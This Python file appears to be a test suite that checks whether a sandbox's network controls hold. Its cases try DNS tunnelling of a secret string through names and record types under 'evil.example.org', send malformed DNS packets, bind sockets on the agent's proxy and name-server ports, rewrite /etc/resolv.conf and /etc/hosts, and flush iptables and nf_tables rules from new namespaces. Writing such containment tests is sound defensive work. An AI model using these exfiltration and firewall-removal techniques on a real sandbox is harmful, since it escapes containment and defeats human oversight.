"""The sandbox's name server and the ports of its agent: names as a way out,
others in their place, and the network's configuration changed."""

import ctypes
import glob
import os
import select
import struct
import subprocess
import time

from attack import *

SERVER = ("127.0.0.1", 53)
PORT = 15001  # where connections without a proxy arrive
GOOD, EVIL = "good.example.com", "evil.example.org"
A, NS, CNAME, NULL, PTR, MX, TXT, AAAA, SRV, OPT, HTTPS, AXFR, ANY = 1, 2, 5, 10, 12, 15, 16, 28, 33, 41, 65, 252, 255
SECRET = "73656372657473656372657473656372"


def wire_name(name):
    """A name as DNS has it; what is bytes is that already."""
    if isinstance(name, bytes):
        return name
    return b"".join(bytes([len(x)]) + x.encode("latin-1") for x in name.rstrip(".").split(".") if x) + b"\0"


def query(name, kind=A, klass=1, flags=0x100, extra=b"", counts=(1, 0, 0, 0)):
    return struct.pack(">HHHHHH", 7, flags, *counts) + wire_name(name) + struct.pack(">HH", kind, klass) + extra


def by_udp(packet):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(SHORT)
        s.connect(SERVER)
        s.send(packet)
        return s.recv(65536)


def by_tcp(packet):
    with dial(*SERVER) as s:
        s.settimeout(SHORT)
        s.sendall(struct.pack(">H", len(packet)) + packet)
        return read_exactly(s, struct.unpack(">H", read_exactly(s, 2))[0])


def skip_name(packet, at):
    while packet[at]:
        if packet[at] >= 0xC0:
            return at + 2
        at += 1 + packet[at]
    return at + 1


def records(reply):
    """The types and the data of the answers in a reply."""
    questions, answers = struct.unpack(">HH", reply[4:8])
    at, list_ = 12, []
    for _ in range(questions):
        at = skip_name(reply, at) + 4
    for _ in range(answers):
        at = skip_name(reply, at)
        kind, _, _, size = struct.unpack(">HHIH", reply[at : at + 10])
        list_.append((kind, reply[at + 10 : at + 10 + size]))
        at += 10 + size
    return list_


def told(reply):
    """What a reply says that only the world outside can know: anything but an
    address that the sandbox made up."""
    for kind, data in records(reply):
        if kind != A or data[0] != 127:
            return b"CANARY a record of type %d: " % kind + data
    return b"code %d" % (reply[3] & 15)


def address(name):
    reply = by_udp(query(name))
    return ".".join(map(str, records(reply)[0][1]))


def question(what, packet, leaves=""):
    """A query by UDP and by TCP. What the host's resolver makes of it is not
    looked at where nothing holds it, but for what it is asked."""
    case(f"{what}, by UDP", control=False, leaves=leaves and f"dns {leaves}")(lambda: told(by_udp(packet)))

    case(f"{what}, by TCP", control=False)(lambda: told(by_tcp(packet)))


# Data in names, below what is allowed and below what is not.
for parent in ("wild.example.com", "evil.example.org", "good.example.com", "denied.example.com"):
    for what, name in {
        "data": f"{SECRET}.{parent}",
        "data in many labels": ".".join([SECRET] * 5) + f".{parent}",
        "data in the longest label": "a" * 63 + f".{parent}",
        "data in single letters": ".".join("secret" * 10) + f".{parent}",
    }.items():
        question(f"{what} below {parent}", query(name), name + ".")
    for kind, number in {"NS": NS, "CNAME": CNAME, "NULL": NULL, "MX": MX, "TXT": TXT, "AAAA": AAAA, "SRV": SRV, "HTTPS": HTTPS, "ANY": ANY, "type 65280": 65280, "AXFR": AXFR}.items():
        name = f"{kind.lower().replace(' ', '')}.{SECRET}.{parent}"
        question(f"{kind} below {parent}", query(name, number), name + ".")
    question(f"the case of letters below {parent}", query("sEcReTsEcReT." + parent.swapcase()), "secretsecret." + parent + ".")
    for what, number in (("a private option", 65001), ("a client subnet", 8), ("a cookie", 10), ("padding", 12)):
        data = struct.pack(">HH", number, 32) + SECRET.encode()
        edns = b"\0" + struct.pack(">HHIH", OPT, 1232, 0, len(data)) + data
        question(f"EDNS with {what} below {parent}", query("edns." + parent, extra=edns, counts=(1, 0, 0, 1)), f"edns.{parent}.")

raw = {
    "bytes in a name": b"\x06\x00\x01\xff\n\r \x04wild\x07example\x03com\0",
    "a line end in a name": b"\x0aa\nevil\nx\ny\x04wild\x07example\x03com\0",
    "a dot in a label": b"\x0bgood.evil.x\x04wild\x07example\x03com\0",
    "a NUL in a label": b"\x05good\0\x04wild\x07example\x03com\0",
    "a space in a label": b"\x06a evil\x04wild\x07example\x03com\0",
    "letters beyond ASCII": b"\x06s\xc3\xa4cr\xc3\x04wild\x07example\x03com\0",
    "a name of 255 bytes": (b"\x3f" + b"a" * 63) * 3 + b"\x2c" + b"b" * 44 + b"\x04wild\x07example\x03com\0",
    "a name of more": (b"\x3f" + b"a" * 63) * 5 + b"\0",
    "a name that leads to itself": b"\xc0\x0c",
    "a name that leads beyond the query": b"\xff\xff",
    "a name that does not end": b"\x04wild",
    "the root": b"\0",
}
for what, name in raw.items():
    # The control's resolver takes none of these; the names above show that it asks.
    case(f"{what}, by UDP", control=False)(lambda name=name: told(by_udp(query(name))))
    case(f"{what}, by TCP", control=False)(lambda name=name: told(by_tcp(query(name))))

for what, packet in {
    "two questions": query(GOOD, extra=wire_name(f"{SECRET}.{EVIL}") + b"\0\1\0\1", counts=(2, 0, 0, 0)),
    "a zone transfer": query("wild.example.com", AXFR),
    "an update": query(EVIL, 6, flags=5 << 11),
    "a notification": query(EVIL, 6, flags=4 << 11),
    "a status": query(EVIL, flags=2 << 11),
    "an answer in the question": query(GOOD, extra=b"\xc0\x0c" + struct.pack(">HHIH", A, 1, 60, 4) + b"\x7f\0\0\1", counts=(1, 1, 0, 0)),
    "class CHAOS": query("version.bind", TXT, 3),
    "another name behind the query": query(GOOD, extra=b"\0" * 8 + SECRET.encode()),
}.items():
    question(what, packet)
question("an answer", query(EVIL, flags=0x8180), EVIL + ".")

for name in ("1.0.0.127.in-addr.arpa", "66.100.51.198.in-addr.arpa", "254.169.254.169.in-addr.arpa", "254.255.127.127.in-addr.arpa", "6.6.0.0." + "0." * 20 + "1.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa"):
    question(f"whose address it is, {name}", query(name, PTR), name + ".")


# What was never given out, is the agent's own, or has been forgotten.
for to in ("127.64.0.0", "127.100.1.2", "127.127.255.254", "127.127.255.255"):
    for port in (80, 443, 53, PORT, 3128):
        case(f"an address that no name has, {to}:{port}", control=False)(lambda to=to, port=port: bare(to, port))
for to in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "127.1.2.3"):
    case(f"the agent's port, directly, {to}", control=False)(lambda to=to: bare(to, PORT))
case("the agent's port, and a line for the host", control=False)(lambda: bare("127.0.0.1", PORT, b"evil.example.org:80\n" + request()))
case("the agent's port at an address outside", control=False)(lambda: bare("198.51.100.66", PORT))
case("the name server's port at an address outside", control=False)(lambda: bare("198.51.100.66", 53))
case("HTTP to the name server", control=False)(lambda: bare("127.0.0.1", 53))


# Others in the agent's place. A socket that is bound is not yet a theft: it would
# have to get what programs send.
def listening(kind, host, port, *options):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind)
    for o in options:
        s.setsockopt(socket.SOL_SOCKET, o, 1)
    s.bind((host, port))
    if kind == socket.SOCK_STREAM:
        s.listen(16)
    s.settimeout(SHORT)
    return s


def stolen(kind, host, port, options, provoke):
    """Whether a socket in the agent's place gets what is meant for the agent."""
    with listening(kind, host, port, *options) as s:
        for _ in range(20):
            try:
                provoke()
            except OSError:
                pass
            if select.select([s], [], [], 0)[0]:
                return b"CANARY it is told what was meant for the agent"
    return b"bound, and told nothing"


def another_program(code):
    return subprocess.run(["python3", "-c", code], capture_output=True, timeout=TIMEOUT).stdout


LOOK_UP = lambda: by_udp(query("b.wild.example.com"))
LOOK_UP_TCP = lambda: by_tcp(query("b.wild.example.com"))
CONNECT = lambda: dial("198.51.100.66", 80).close()
CONNECT_PROXY = lambda: dial(*PROXY).close()
OPTIONS = {"": (), ", SO_REUSEADDR": (2,), ", SO_REUSEPORT": (15,), ", both": (2, 15)}
for options_name, options in OPTIONS.items():
    for host in ("127.0.0.1", "0.0.0.0", "::", "::ffff:127.0.0.1"):
        for what, kind, port, provoke in (
            ("the name server's UDP port", socket.SOCK_DGRAM, 53, LOOK_UP),
            ("the name server's TCP port", socket.SOCK_STREAM, 53, LOOK_UP_TCP),
            ("the port of connections without a proxy", socket.SOCK_STREAM, PORT, CONNECT),
            ("the proxy's port", socket.SOCK_STREAM, 3128, CONNECT_PROXY),
        ):
            args = (kind, host, port, options, provoke)
            case(f"in the place of {what}, {host}{options_name}", control=False)(lambda args=args: stolen(*args))


def shadowed(port):
    """A server of the sandbox's own at the address of a name."""
    to = address("c.wild.example.com")
    return stolen(socket.SOCK_STREAM, to, port, (2, 15), lambda: dial(to, port).close())


for port in (8080, 8443):
    case(f"a server at the address of an allowed name, port {port}", control=False)(lambda port=port: shadowed(port))
case("a server at an address outside", control=False)(lambda: stolen(socket.SOCK_STREAM, "198.51.100.66", 80, (2,), lambda: dial("198.51.100.66", 80).close()))


def source(to, port):
    """A connection whose own address is one of a name's."""
    with socket.socket() as s:
        s.settimeout(TIMEOUT)
        s.bind((address("d.wild.example.com"), 0))
        s.connect((to, port))
        s.sendall(request())
        return read_all(s)


case("a connection from the address of an allowed name", control=False)(lambda: source("198.51.100.66", 80))
case("a connection from there to loopback", control=False)(lambda: source("127.0.0.1", PORT))


# The network's configuration.
def written(path, text):
    """What names lead to with another file; it is put back."""
    before = open(path).read()
    with open(path, "w") as f:
        f.write(text)
    try:
        code = f"import socket\nfor n in ('{EVIL}', 'leak.{EVIL}'):\n try: print(socket.create_connection((n, 80), 5).send(b'GET / HTTP/1.0\\r\\n\\r\\n'))\n except OSError as e: print(e)"
        code += "\ns = socket.create_connection(('198.51.100.66', 80), 5); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(1000))"
        return another_program(code)
    finally:
        with open(path, "w") as f:
            f.write(before)


for server in ("8.8.8.8", "198.51.100.66", "127.0.0.2", "2001:4860:4860::8888"):
    case(f"resolv.conf with {server}", control=False)(lambda server=server: written("/etc/resolv.conf", f"nameserver {server}\noptions timeout:1 attempts:1\n"))
case("resolv.conf with TCP", control=False)(lambda: written("/etc/resolv.conf", "nameserver 8.8.8.8\noptions use-vc timeout:1 attempts:1\n"))
case("hosts that leads a name to an address", control=False)(lambda: written("/etc/hosts", f"198.51.100.66 {EVIL}\n127.0.0.1 localhost\n"))
case("hosts that leads an allowed name to an address", control=False)(lambda: written("/etc/hosts", f"198.51.100.66 {GOOD} {EVIL}\n"))

libc = ctypes.CDLL(None, use_errno=True)


NEWUSER, NEWNET = 0x10000000, 0x40000000


def empty_table(counters):
    """The argument of IPT_SO_SET_REPLACE for a table that redirects nothing."""

    def target(name, argument):
        size = 32 + len(argument) + 7 & ~7
        return (struct.pack("<H", size) + name.ljust(30, b"\0") + argument).ljust(size, b"\0")

    def entry(t):
        return bytes(88) + struct.pack("<HH", 112, 112 + len(t)) + bytes(20) + t

    rules, offsets = b"", [0] * 5
    for hook in (0, 1, 3, 4):
        offsets[hook] = len(rules)
        rules += entry(target(b"", struct.pack("<I", 0xFFFFFFFE)))
    rules += entry(target(b"ERROR", b"ERROR".ljust(30, b"\0")))
    head = b"nat".ljust(32, b"\0") + struct.pack("<13I", 0b11011, 5, len(rules), *offsets, *offsets)
    head += struct.pack("<I", len(counters) // 16)
    return head.ljust(88, b"\0") + struct.pack("<Q", ctypes.addressof(counters)) + rules


def replaced_table(namespaces):
    """The sandbox's redirects removed, from new namespaces if there are any: what
    is changed in a network namespace of one's own is not the sandbox's."""
    pid = os.fork()
    if pid == 0:
        try:
            uid, gid = os.getuid(), os.getgid()
            if namespaces and libc.unshare(namespaces) < 0:
                os._exit(1)
            if namespaces & NEWUSER:
                for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                    with open("/proc/self/" + name, "w") as f:
                        f.write(text)
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) as s:
                info, size = ctypes.create_string_buffer(b"nat", 84), ctypes.c_uint32(84)
                if libc.getsockopt(s.fileno(), 0, 64, info, ctypes.byref(size)) < 0:
                    os._exit(1)
                counters = ctypes.create_string_buffer(16 * struct.unpack("<I", info.raw[76:80])[0])
                table = empty_table(counters)
                os._exit(0 if libc.setsockopt(s.fileno(), 0, 64, table, len(table)) == 0 else 1)
        except BaseException:
            os._exit(1)
    changed = os.waitpid(pid, 0)[1] == 0
    if changed and not namespaces & NEWNET:
        return b"CANARY changed"
    return b"changed in a namespace of its own" if changed else b"refused"


def nf_tables(kind):
    """A message of nf_tables, in a batch, that flushes every rule."""

    def f():
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as s:
            s.settimeout(SHORT)
            head = struct.pack("BBH", 2, 0, 0)

            def message(number, flags, seq, body=b""):
                return struct.pack("IHHII", 20 + len(body), number, flags, seq, 0) + head + body

            batch = struct.pack("BBH", 0, 0, 10 << 8)
            begin = struct.pack("IHHII", 20, 16, 1, 1, 0) + batch
            end = struct.pack("IHHII", 20, 17, 1, 3, 0) + batch
            s.send(begin + message((10 << 8) | kind, 5, 2) + end)
            error = struct.unpack("i", s.recv(65536)[16:20])[0]
            if error:
                raise OSError(-error, os.strerror(-error))
            return b"CANARY changed"

    return f


for what, namespaces in {"": 0, ", from a user namespace": NEWUSER, ", from a network namespace": NEWNET, ", from both": NEWUSER | NEWNET}.items():
    case(f"iptables replaced{what}", control=False)(lambda namespaces=namespaces: replaced_table(namespaces))
case("nf_tables: every rule removed", control=False)(lambda: nf_tables(8)())
case("nf_tables: every table removed", control=False)(lambda: nf_tables(2)())


@case("the settings of the network in /proc/sys", control=False)
def settings():
    changed = b""
    for path in ["/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet", *glob.glob("/proc/sys/net/netfilter/*"), *glob.glob("/proc/sys/net/nf_conntrack_max")]:
        try:
            before = open(path).read()
            with open(path, "w") as f:
                f.write("1" if before.strip() != "1" else "0")
            after = open(path).read()
        except OSError:
            continue
        # gVisor's are its own: what it forwards has nowhere to go.
        if after != before and "conntrack" in path:
            changed += b"CANARY changed " + path.encode()
    return changed


@case("the way out is what it was", control=False, allowed=True)
def goes_on():
    """It is refused, which somebody has to say."""
    if on_host():
        return b"CANARY"
    with socket.create_connection(("198.51.100.66", 80), TIMEOUT) as s:
        s.sendall(request())
        return b"CANARY" if read_all(s, until=(b"\r\n\r\n",)).startswith(b"HTTP/1.1 403") else b""


main()
